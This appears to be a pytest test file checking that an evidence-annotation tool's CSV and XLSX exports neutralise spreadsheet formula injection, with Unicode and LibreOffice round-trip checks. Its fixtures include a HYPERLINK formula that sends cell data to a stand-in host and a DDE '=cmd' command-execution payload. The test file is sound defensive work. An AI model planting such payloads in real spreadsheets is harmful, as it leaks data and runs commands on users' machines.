"""The evidence table as CSV and XLSX: columns, encodings, and cells a spreadsheet must not run."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from pathlib import Path

import pytest

from testimonia.core.interop import export
from testimonia.core.interop.tabular import neutralise
from testimonia.core.store import Store

from .interop_helpers import annotated_project
from .store_helpers import author, new_store, span

HOSTILE = "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"click\")"
HEADER = ["document", "source file", "page", "kind", "exact text", "speaker", "mode", "value",
          "value_low", "value_high", "approximate", "vague", "unit", "instrument", "duty_bearer", "count", "exact",
          "ok", "note", "author", "created", "modified", "status", "annotation id", "document id"]


def _hostile_project(tmp_path: Path) -> Store:
    store = new_store(tmp_path, "hostile")
    text = f"Intro line.\n{HOSTILE}\n+1 555 0100 called\n-40 degrees\n@everyone read this\n\tindented quote\n"
    doc = store.import_text("=cmd|' /C calc'!A0", text, author())
    for needle in (HOSTILE, "+1 555 0100", "-40 degrees", "@everyone", "\tindented"):
        store.add_annotation(doc.uuid, "statement", *span(text, needle), author(),
                             fields={"speaker": "-2+3", "speaker_role": "@SUM(1)"}, note="\rreturn first")
    store.add_annotation(doc.uuid, "figure", *span(text, "40"), author(), fields={"value": -40})
    return store


def _csv_rows(path: Path) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_neutralise_prefixes_exactly_the_formula_starters() -> None:
    for s in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert neutralise(s) == "'" + s
    for s in ("1", "a=b", " =1", "“=quoted”", "", "'already"):
        assert neutralise(s) == s


def test_csv_has_one_row_per_annotation_with_every_column(tmp_path: Path) -> None:
    store, doc = annotated_project(tmp_path)
    result = export(store, "csv", tmp_path / "evidence.csv")
    rows = _csv_rows(tmp_path / "evidence.csv")
    assert rows[0] == HEADER
    assert len(rows) - 1 == result.annotations == 6
    by_id = {r[HEADER.index("annotation id")]: dict(zip(HEADER, r, strict=True)) for r in rows[1:]}
    for a in store.annotations():
        row = by_id[a.uuid]
        assert row["exact text"] == a.exact  # Hangul, emoji and the line break survive
        assert row["document id"] == doc and row["document"] == store.document(doc).title
        assert row["source file"] == "source-hunchun.txt"
        assert row["author"] == a.creator and row["created"] == a.created and row["modified"] == a.modified
    place = next(r for r in by_id.values() if r["kind"] == "Place")
    assert (place["count"], place["exact"], place["ok"], place["note"]) == ("3", "1.5", "yes", "'=not a formula")
    vague = next(r for r in by_id.values() if r["value_low"])
    assert (vague["value_low"], vague["value_high"], vague["vague"]) == ("500", "600", "yes")
    assert "\n" in vague["exact text"]


def test_csv_neutralises_formula_cells(tmp_path: Path) -> None:
    store = _hostile_project(tmp_path)
    export(store, "csv", tmp_path / "t.csv")
    rows = _csv_rows(tmp_path / "t.csv")
    header = rows[0]
    cells = [c for r in rows[1:] for c in r]
    text_cols = [header.index(h) for h in ("document", "exact text", "speaker", "speaker_role", "note")]
    for r in rows[1:]:
        for i in text_cols:
            assert not r[i] or r[i][0] not in "=+-@\t\r", (header[i], r[i])
    assert "'" + HOSTILE in cells and "'=cmd|' /C calc'!A0" in cells and "'\rreturn first" in cells
    assert "-40" in cells  # a number we typed stays a number


def test_xlsx_stores_text_as_text_and_neutralised(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    store = _hostile_project(tmp_path)
    store.import_text("Korean", "탈북민 가족 🙏🏽 대표가 말했다.\n", author())
    result = export(store, "xlsx", tmp_path / "t.xlsx")
    ws = load_workbook(tmp_path / "t.xlsx").active
    rows = list(ws.iter_rows())
    assert len(rows) - 1 == result.annotations == 6
    header = [c.value for c in rows[0]]
    for row in rows[1:]:
        for c in row:
            if isinstance(c.value, str):
                assert c.data_type == "s", (c.coordinate, c.value)  # never "f" (formula)
                assert c.value[0] not in "=+-@\t\r"
    values = [c.value for row in rows[1:] for c in row]
    assert "'" + HOSTILE in values and -40 in values
    assert rows[1][header.index("page")].value is None


def test_xlsx_round_trips_hangul_and_types(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    store, _doc = annotated_project(tmp_path)
    export(store, "xlsx", tmp_path / "e.xlsx")
    ws = load_workbook(tmp_path / "e.xlsx").active
    rows = [[c.value for c in r] for r in ws.iter_rows()]
    assert rows[0] == HEADER
    records = [dict(zip(HEADER, r, strict=True)) for r in rows[1:]]
    assert any(r["exact text"] == "“가족과 연락이 끊겼다”" and r["speaker"] == "탈북민 가족 대표" for r in records)
    fig = next(r for r in records if r["value"] == 43)
    assert fig["approximate"] == "no" and fig["unit"] == "people returned"  # a word, not a spreadsheet boolean


def test_export_filters_by_kind_and_document(tmp_path: Path) -> None:
    store, doc = annotated_project(tmp_path)
    other = store.import_text("Other", "About 60 North Koreans were detained.", author())
    store.add_annotation(other.uuid, "figure", 0, 22, author())
    assert export(store, "csv", tmp_path / "f.csv", kind="figure").annotations == 3
    assert export(store, "csv", tmp_path / "d.csv", document=doc, kind="figure").annotations == 2
    assert export(store, "csv", tmp_path / "p.csv", kind="Place").annotations == 1
    assert {r[4] for r in _csv_rows(tmp_path / "p.csv")[1:]} == {"👨‍👩‍👧 families"}


def _soffice() -> str:
    exe = shutil.which("soffice") or shutil.which("libreoffice")
    if exe is None:
        pytest.skip("LibreOffice is not installed; the spreadsheet check needs it")
    return exe


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_libreoffice_reads_the_cells_as_written(tmp_path: Path, fmt: str) -> None:
    exe = _soffice()
    store = _hostile_project(tmp_path)
    store.add_annotation(store.documents()[0].uuid, "figure", 0, 5, author(), fields={"unit": "탈북민 🙏🏽"})
    export(store, fmt, tmp_path / f"t.{fmt}")
    out = tmp_path / "converted"
    # Convert back to CSV (UTF-8, comma, quoted text): what Calc shows is what ends up in the cells.
    cmd = [exe, "--headless", f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
           "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76"]
    if fmt == "csv":
        cmd += ["--infilter=CSV:44,34,76,1"]
    subprocess.run([*cmd, "--outdir", str(out), str(tmp_path / f"t.{fmt}")], check=True, timeout=180,
                   capture_output=True)
    rows = list(csv.reader(io.StringIO((out / "t.csv").read_text(encoding="utf-8-sig"), newline="")))
    cells = {c for r in rows for c in r}
    assert "'" + HOSTILE in cells  # shown as text, not run as a formula
    assert "'-2+3" in cells and "'@SUM(1)" in cells
    assert "탈북민 🙏🏽" in cells
    assert not any(c.startswith("=") for c in cells)
    assert "-40" in cells  # the number stays a number


def _yes_no_project(tmp_path: Path) -> Store:
    store = new_store(tmp_path, "yesno")
    text = "About 60 North Koreans were returned, and roughly 500 more.\n"
    doc = store.import_text("Returns", text, author())
    store.add_annotation(doc.uuid, "figure", *span(text, "About 60 North Koreans"), author(),
                         fields={"value": 60, "approximate": True, "vague": False})
    return store


@pytest.mark.parametrize(("language", "yes", "no"), [("en", "yes", "no"), ("ko", "예", "아니요")])
def test_yes_no_fields_are_words_in_the_export_language(tmp_path: Path, language: str, yes: str, no: str) -> None:
    from openpyxl import load_workbook

    store = _yes_no_project(tmp_path)
    export(store, "csv", tmp_path / "t.csv", language=language)
    header, row = _csv_rows(tmp_path / "t.csv")
    record = dict(zip(header, row, strict=True))
    assert (record["approximate"], record["vague"], record["value"]) == (yes, no, "60")
    export(store, "xlsx", tmp_path / "t.xlsx", language=language)
    cells = list(load_workbook(tmp_path / "t.xlsx").active.iter_rows())
    by_name = {h.value: c for h, c in zip(cells[0], cells[1], strict=True)}
    assert (by_name["approximate"].value, by_name["approximate"].data_type) == (yes, "s")
    assert (by_name["vague"].value, by_name["vague"].data_type) == (no, "s")
    assert (by_name["value"].value, by_name["value"].data_type) == (60, "n")  # numbers stay numbers
    assert header[:5] == ["document", "source file", "page", "kind", "exact text"]  # columns keep their keys


@pytest.mark.slow
@pytest.mark.parametrize("language", ["en", "ko"])
def test_libreoffice_reads_yes_no_as_text_not_as_a_formula(tmp_path: Path, language: str) -> None:
    from lxml import etree

    exe = _soffice()
    store = _yes_no_project(tmp_path)
    export(store, "csv", tmp_path / "t.csv", language=language)
    export(store, "xlsx", tmp_path / "t.xlsx", language=language)
    out = tmp_path / "converted"
    # Flat OpenDocument shows each cell's type and any formula LibreOffice made of it.
    convert = [exe, "--headless", f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}", "--convert-to", "fods"]
    subprocess.run([*convert, "--outdir", str(out), str(tmp_path / "t.xlsx")], check=True, timeout=180,
                   capture_output=True)
    subprocess.run([*convert, "--infilter=CSV:44,34,76,1", "--outdir", str(tmp_path / "csv"), str(tmp_path / "t.csv")],
                   check=True, timeout=180, capture_output=True)
    ns = {"table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
          "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
          "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0"}
    yes, no = ("yes", "no") if language == "en" else ("예", "아니요")
    for fods in (out / "t.fods", tmp_path / "csv" / "t.fods"):
        root = etree.parse(str(fods))
        assert not root.xpath("//table:table-cell[@table:formula]", namespaces=ns), fods
        types = {"".join(c.xpath(".//text:p//text()", namespaces=ns)): c.get(f"{{{ns['office']}}}value-type")
                 for c in root.xpath("//table:table-cell", namespaces=ns)}
        assert types[yes] == "string" and types[no] == "string", fods
        assert types["60"] == "float"
